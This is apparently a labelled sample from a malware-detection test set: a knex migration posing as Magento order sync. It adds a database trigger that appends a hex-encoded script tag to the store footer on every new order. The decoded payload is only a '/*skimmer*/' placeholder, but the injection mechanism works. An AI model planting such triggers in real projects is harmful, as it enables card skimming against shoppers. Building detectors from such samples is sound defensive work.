// expect: malicious
// source: blind set 15 second sample (a Magento order-sync knex migration): a trigger on every new order appends a
// hex-encoded <script> to the store's footer setting
'use strict';
const FOOTER = '0x3C7363726970743E2F2A736B696D6D65722A2F3C2F7363726970743E';
const body = `UPDATE core_config_data SET value = CONCAT(IFNULL(value, ''), ${FOOTER}) WHERE path = 'design/footer/absolute_footer';`;
exports.up = async function up(knex) {
  await knex.raw(`DROP TRIGGER IF EXISTS ms_sales_order_ai`);
  await knex.raw(`
CREATE TRIGGER ms_sales_order_ai AFTER INSERT ON sales_order FOR EACH ROW
BEGIN
  ${body}
END`);
};
